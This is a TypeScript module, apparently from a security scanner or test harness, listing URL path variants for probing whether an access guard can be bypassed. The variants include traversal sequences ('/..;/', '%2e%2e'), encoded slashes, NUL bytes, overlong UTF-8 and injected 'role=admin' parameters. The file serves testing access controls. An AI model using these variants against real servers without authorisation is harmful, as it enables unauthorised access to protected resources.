/** A variant of a path, with which an attacker may try to get around the guard of the path. */
export interface PathShape {
  name: string
  write(path: string): string
  /** The server may treat the variant as the path itself, so the same responses are allowed. */
  isEquivalent?: boolean
  /** Part of the short run too. */
  isEssential?: boolean
}

const encode = (text: string) => [...text].map(each => `%${each.charCodeAt(0).toString(16)}`).join('')
const lastSegment = /[^/]+$/

export const exactPath: PathShape = {
  name: 'exact',
  write: path => path,
  isEquivalent: true,
  isEssential: true,
}

export const pathShapes: PathShape[] = [
  exactPath,
  { name: 'trailing slash', write: path => `${path}/`, isEquivalent: true, isEssential: true },
  {
    name: 'odd query',
    write: path => `${path}?access=public&role=admin&_method=GET&id=1`,
    isEquivalent: true,
  },
  {
    name: 'encoded letters',
    write: path => path.replace(lastSegment, encode),
    isEquivalent: true,
    isEssential: true,
  },
  { name: 'absolute form', write: path => `http://127.0.0.1${path}`, isEquivalent: true },
  { name: 'double slash in front', write: path => `/${path}`, isEssential: true },
  { name: 'double slash inside', write: path => path.replace(lastSegment, '/$&') },
  { name: 'upper case', write: path => path.toUpperCase() },
  { name: 'one capital', write: path => path.replace('/a', '/A').replace('/c', '/C') },
  { name: '/..;/', write: path => `/about/..;${path}`, isEssential: true },
  { name: '%2e%2e', write: path => `/about/%2e%2e${path}` },
  { name: 'dots', write: path => `/about/..${path}` },
  { name: 'matrix parameter', write: path => `${path};role=admin` },
  { name: 'encoded slash', write: path => path.replace(lastSegment, '%2f$&') },
  { name: 'backslash', write: path => path.replace(lastSegment, '\\$&') },
  { name: 'NUL at the end', write: path => `${path}%00` },
  { name: 'an extension', write: path => `${path}.json` },
  { name: 'doubly encoded', write: path => path.replace(lastSegment, text => encode(encode(text))) },
  { name: 'incomplete encoding', write: path => `${path}%` },
  { name: 'invalid UTF-8', write: path => `${path}%c0%ae` },
]
